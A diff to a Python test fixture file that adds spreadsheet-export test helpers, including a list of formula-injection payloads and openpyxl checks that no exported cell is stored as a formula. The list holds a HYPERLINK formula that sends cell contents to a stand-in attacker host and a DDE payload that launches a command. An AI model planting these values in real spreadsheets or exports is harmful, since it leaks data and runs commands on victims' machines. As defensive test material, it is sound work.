@@ -134,3 +134,27 @@ def psycopg_commands(monkeypatch) -> list[bytes]:
         return real(self, command, *args, **kwargs)
     monkeypatch.setattr(psycopg.Connection, "_exec_command", spy)
     return sent
+
+
+# text a spreadsheet program could run as a formula (OWASP CSV/formula injection), for the export tests
+FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+                "\t=1+1", "\r=1+1"]
+
+
+def xlsx_cells(content: bytes) -> list:
+    """Every cell of every sheet of an .xlsx, read back with openpyxl as the file stores it (no formula
+    results computed); asserts that none is a formula, since no export writes one."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(BytesIO(content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    formulas = [f"{cell.parent.title}!{cell.coordinate}={cell.value!r}" for cell in cells if cell.data_type == "f"]
+    assert formulas == [], f"cells written as formulas: {formulas}"
+    return cells
+
+
+def xlsx_texts(content: bytes) -> set[str]:
+    """The text of every string cell in an .xlsx (after `xlsx_cells` checked there is no formula)."""
+    return {cell.value for cell in xlsx_cells(content) if cell.data_type == "s"}
